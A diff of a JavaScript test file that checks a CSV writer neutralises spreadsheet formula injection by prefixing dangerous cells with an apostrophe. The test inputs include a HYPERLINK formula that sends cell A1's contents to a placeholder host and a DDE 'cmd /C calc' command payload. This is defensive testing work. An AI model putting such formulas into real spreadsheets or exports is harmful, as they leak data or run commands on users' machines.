@@ -5,7 +5,7 @@ describe('the shared CSV writer', () => {
   it("prefixes with ' every text cell a spreadsheet would run as a formula (OWASP CSV injection)", () => {
     expect(csvCell('=HYPERLINK("http://x.test?"&A1;"Clique")')).toBe(`"'=HYPERLINK(""http://x.test?""&A1;""Clique"")"`);
     expect(csvCell('+55 11 9999')).toBe("'+55 11 9999");
-    expect(csvCell('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
     expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
     expect(csvCell('\t=1+1')).toBe("'\t=1+1");
     expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
